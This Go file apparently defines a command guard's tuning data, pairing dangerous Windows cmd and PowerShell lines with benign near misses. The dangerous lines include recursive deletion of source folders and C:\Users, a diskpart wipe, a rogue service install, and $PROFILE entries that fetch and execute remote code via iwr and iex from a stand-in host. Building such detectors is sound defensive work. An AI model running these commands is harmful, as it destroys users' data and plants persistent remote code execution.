package guard

// Classes found through the round six tuning corpus: each holds the
// dangerous forms of a mechanism and the benign near misses beside it.
func init() {
	winClasses = append(winClasses,
		winClass{name: "build output below a sub-project",
			dangerous: []winLine{
				cmdl(`rd /s /q src\Acme.Api`),
				ps(`Remove-Item -Recurse -Force .\src\Api\Controllers`),
				ps(`Remove-Item -LiteralPath 'C:\work\project\src\Api' -Recurse -Force`),
			},
			benign: []winLine{
				cmdl(`rd /s /q src\Acme.Api\bin src\Acme.Api\obj`),
				ps(`Remove-Item -Recurse -Force .\src\Api\bin, .\src\Api\obj`),
				cmdl(`rd /s /q tests\Acme.Web.Tests\TestResults`),
				ps(`Remove-Item -Path .\apps\admin\dist -Recurse -Force -ErrorAction Ignore`),
			},
		},
		winClass{name: "dry runs and help pages",
			dangerous: []winLine{
				ps(`New-Service -Name Updater -BinaryPathName 'C:\ProgramData\u.exe'`),
				ps(`Remove-Item C:\Users -Recurse -Force -WhatIf:$false`),
				cmdl(`diskpart /s wipe.txt`),
				ps(`Invoke-Command -ScriptBlock { Remove-Item C:\Users -Recurse -Force } -WhatIf`),
			},
			benign: []winLine{
				ps(`New-Service -Name Worker -BinaryPathName 'C:\work\project\out\w.exe' -WhatIf`),
				ps(`Stop-Service -Name WinDefend -WhatIf`),
				cmdl(`diskpart /?`),
				cmdl(`format /?`),
				ps(`bcdedit /?`),
			},
		},
		winClass{name: "force-killing stateless hosts or filtered processes",
			dangerous: []winLine{
				cmdl(`taskkill /f /im chrome.exe`),
				cmdl(`taskkill /f /im explorer.exe /fi "USERNAME eq dev"`),
				ps(`taskkill /F /IM code.exe`),
			},
			benign: []winLine{
				cmdl(`taskkill /im vstest.console.exe /f`),
				cmdl(`taskkill /f /im VBCSCompiler.exe`),
				cmdl(`taskkill /f /t /im python.exe /fi "WINDOWTITLE eq worker*"`),
			},
		},
	)
}

func init() {
	winClasses = append(winClasses,
		winClass{name: "a tool's own cache in the profile",
			dangerous: []winLine{
				ps(`Remove-Item "$env:LOCALAPPDATA\acme-cli" -Recurse -Force`),
				ps(`Remove-Item "$env:APPDATA\Code\User" -Recurse -Force`),
			},
			benign: []winLine{
				ps(`Remove-Item "$env:LOCALAPPDATA\tool-x\cache\*" -Recurse -Force`),
				cmdl(`rd /s /q "%APPDATA%\Code\Cache"`),
			},
		},
		winClass{name: "profile lines that import a module by name",
			dangerous: []winLine{
				ps(`Add-Content $PROFILE 'Import-Module \\203.0.113.9\m\x.psm1'`),
				ps(`Add-Content $PROFILE 'Import-Module (iwr https://example.com/m.psm1)'`),
				ps(`Add-Content $PROFILE 'iwr https://example.com/p | iex'`),
			},
			benign: []winLine{
				ps(`Add-Content $PROFILE 'Import-Module Terminal-Icons'`),
				ps(`Add-Content -Path $PROFILE -Value 'Import-Module z'`),
			},
		},
	)
}
